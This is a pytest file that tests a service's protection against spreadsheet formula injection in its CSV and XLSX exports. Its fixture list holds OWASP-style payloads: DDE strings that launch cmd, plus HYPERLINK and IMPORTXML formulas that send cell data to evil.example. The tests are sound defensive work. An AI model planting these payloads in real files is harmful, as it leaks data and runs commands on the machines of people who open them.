"""Formula injection in every CSV and XLSX file the service writes: a text that a spreadsheet would run is shown as
text (a leading apostrophe), numbers stay numbers, and every writer uses the one guard in familienkarte.spreadsheets.
"""

from __future__ import annotations

import csv
import decimal
import io
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from familienkarte import i18n
from familienkarte.partners import csv_import
from familienkarte.partners.csv_import import PARTNERS, RowError
from familienkarte.spreadsheets import FORMULA_STARTS, csv_cell, neutralise
from familienkarte.statistics.export_render import Hidden, Share, Sheet, render_csv, render_xlsx

ROOT = Path(__file__).resolve().parents[2]
# Payloads from OWASP's CSV injection page and the DDE variants, each with the first characters that trigger them.
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
]


def runs_as_formula(cell: str) -> bool:
    """Whether a spreadsheet would run this text: it starts with a formula character and is not a plain number."""
    return cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"-[0-9]+(\.[0-9]+)?", cell)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_start_gets_an_apostrophe(payload: str) -> None:
    assert neutralise(payload) == "'" + payload
    assert csv_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-5, "-5"),
        (0, "0"),
        (-2.5, "-2.5"),
        (decimal.Decimal("-5.25"), "-5.25"),
        ("-5", "-5"),
        ("-0.75", "-0.75"),
        (None, ""),
        (True, "True"),
        (float("-inf"), "'-inf"),
        ("-1e3", "'-1e3"),
        ("- 5", "'- 5"),
    ],
)
def test_numbers_stay_numbers_and_everything_else_is_text(value: object, written: str) -> None:
    assert csv_cell(value) == written


@settings(max_examples=300, derandomize=True, database=None)
@given(st.text(max_size=40))
def test_no_text_comes_out_as_a_formula_and_the_apostrophe_is_all_that_is_added(text: str) -> None:
    cell = csv_cell(text)
    assert not runs_as_formula(cell)
    assert cell in (text, "'" + text)


def _hostile_sheet() -> Sheet:
    return Sheet(
        title=PAYLOADS[0],
        about=[(PAYLOADS[1], PAYLOADS[2]), ("Partner", PAYLOADS[3])],
        header=[PAYLOADS[4], "Redemptions", "Share"],
        rows=[
            [PAYLOADS[5], -3, Share(0.5)],
            [PAYLOADS[6], Hidden(PAYLOADS[7]), None],
            [PAYLOADS[8], 7, Share(0.25)],
            [PAYLOADS[9], -12, None],
        ],
        notes=[PAYLOADS[0]],
    )


def test_the_statistics_csv_has_no_cell_a_spreadsheet_would_run() -> None:
    text = render_csv(_hostile_sheet()).decode("utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(text, newline="")) for cell in line]
    assert not [cell for cell in cells if runs_as_formula(cell)]
    assert {"'" + payload for payload in PAYLOADS} <= set(cells)
    assert "-3" in cells
    assert "-12" in cells


def test_the_statistics_xlsx_has_no_formula_and_keeps_negative_numbers_as_numbers() -> None:
    sheet = load_workbook(io.BytesIO(render_xlsx(_hostile_sheet()))).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert not [cell.value for cell in cells if isinstance(cell.value, str) and runs_as_formula(cell.value)]
    numbers = [cell.value for cell in cells if cell.data_type == "n" and cell.value is not None]
    assert -3 in numbers
    assert -12 in numbers


def test_the_import_problem_report_has_no_cell_a_spreadsheet_would_run() -> None:
    header = ";".join(["partner_key", "name", "legal_form", "category", "description_de", *PAYLOADS[:4]])
    errors: list[RowError] = []
    csv_import.read_rows(PARTNERS, header.encode() + b"\r\n", errors)
    assert len(errors) >= 4
    with i18n.use_locale("en"):
        written = csv_import.report_csv(csv_import.ImportReport({}, errors))
    lines = list(csv.reader(io.StringIO(written.decode("utf-8-sig"), newline=""), delimiter=";"))
    cells = [cell for line in lines for cell in line]
    assert not [cell for cell in cells if runs_as_formula(cell)]
    assert lines[1][1] == "1"  # the line number is a number
    assert {line[2] for line in lines[1:]} >= {"'" + payload.strip() for payload in PAYLOADS[:4]}


# Calls that write a CSV or XLSX file; every module that makes one must use familienkarte.spreadsheets.
WRITERS = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|xlsxwriter|\.to_csv\(|\.to_excel\(")


def test_every_csv_and_xlsx_writer_uses_the_one_guard() -> None:
    sources = [
        path
        for folder in ("familienkarte", "partner_portal", "workers")
        for path in sorted((ROOT / folder).rglob("*.py"))
        if WRITERS.search(path.read_text(encoding="utf-8"))
    ]
    assert {path.relative_to(ROOT).as_posix() for path in sources} >= {
        "familienkarte/statistics/export_render.py",
        "familienkarte/partners/csv_import.py",
    }
    for path in sources:
        assert "from familienkarte.spreadsheets import" in path.read_text(encoding="utf-8"), path
